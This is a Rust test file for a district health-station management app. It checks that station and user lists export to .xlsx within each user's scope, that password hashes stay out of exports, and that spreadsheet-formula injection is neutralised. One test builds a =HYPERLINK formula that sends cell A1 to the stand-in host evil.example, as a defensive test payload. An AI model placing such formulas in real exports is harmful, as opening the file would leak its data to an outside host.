//! Exports through the real router: lists to .xlsx within scope, and hostile text kept as text.
//! SQLite and PostgreSQL.

use crate::common;

use axum::http::StatusCode;
use common::{App, district, district_ids, xlsx_rows};
use yizhan_core::access::{Role, Scope};
use yizhan_store::both_backends;
use yizhan_store::testing::TestDb;

both_backends!(lists_export_to_xlsx_within_scope, |t: TestDb| async move {
    let app = App::new(t).await;
    let (_, _, st_a, _) = district(app.db()).await;
    let admin = app.user("admin", Role::Admin, Scope::District, false).await;
    let mut c = app.session_for(admin).await;
    let r = app.get(&mut c, "/stations/export.xlsx").await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.header("content-type").contains("spreadsheetml"));
    assert!(
        r.header("content-disposition").contains("filename*=UTF-8''%E9%A9%BF%E7%AB%99.xlsx"),
        "{}",
        r.header("content-disposition")
    );
    let rows = xlsx_rows(&r.bytes, "驿站");
    assert_eq!(rows[0][..3], ["名称", "所属街道", "类型"]);
    assert_eq!(rows.len(), 3, "header + 2 stations");
    assert_eq!(rows[1][0], "卓汇健康驿站");
    assert_eq!(rows[1][4], "100");
    // The list page filters by street and sums the beds.
    let (street_a, ..) = district_ids(&app).await;
    let page = app.get(&mut c, &format!("/stations?street={street_a}")).await.body;
    assert!(page.contains("卓汇健康驿站") && !page.contains("平湖健康驿站"), "filtered by street");
    assert!(page.contains("共 1 个驿站，100 张床位"), "summary");
    // A station lead exports only their own station.
    let lead = app.user("lead", Role::StationLead, Scope::Station(st_a), false).await;
    let mut c2 = app.session_for(lead).await;
    let rows = xlsx_rows(&app.get(&mut c2, "/stations/export.xlsx").await.bytes, "驿站");
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[1][1], "吉华街道");
    // Accounts, in English when the user chose English; never a password hash.
    c.cookies.insert("yz_lang".into(), "en".into());
    let r = app.get(&mut c, "/admin/users/export.xlsx").await;
    let rows = xlsx_rows(&r.bytes, "Users");
    assert_eq!(rows[0], ["User name", "Name", "Role", "Active"]);
    assert_eq!(rows.len(), 3);
    assert!(rows.iter().flatten().all(|c| !c.contains("argon2")));
    assert!(rows.iter().any(|r| r[0] == "lead" && r[2].starts_with("Station lead")), "{rows:?}");
});

both_backends!(a_hostile_name_stays_text_in_the_export, |t: TestDb| async move {
    let app = App::new(t).await;
    let (street_a, _, _, _) = district(app.db()).await;
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")";
    yizhan_store::station::stations::create(
        app.db(),
        &yizhan_core::access::Actor::system(),
        &yizhan_core::station::stations::NewStation {
            street_id: street_a,
            name: hostile.into(),
            address: "+86 深圳市龙岗区".into(),
            kind: yizhan_core::station::stations::StationKind::Hotel,
            capacity: 10,
            contact_name: "@联系人".into(),
            contact_phone: "13800138000".into(),
            active: true,
        },
    )
    .await
    .unwrap();
    let cmd = app.user("zhihui", Role::Commander, Scope::District, false).await;
    let mut c = app.session_for(cmd).await;
    let r = app.get(&mut c, "/stations/export.xlsx").await;
    assert_eq!(r.status, StatusCode::OK);
    let rows = xlsx_rows(&r.bytes, "驿站");
    let row = rows.iter().find(|r| r[0].contains("HYPERLINK")).unwrap();
    assert_eq!(row[0], format!("'{hostile}"));
    assert_eq!(row[3], "'+86 深圳市龙岗区");
    assert!(row.iter().all(|cell| !cell.starts_with(['=', '+', '@'])));
});
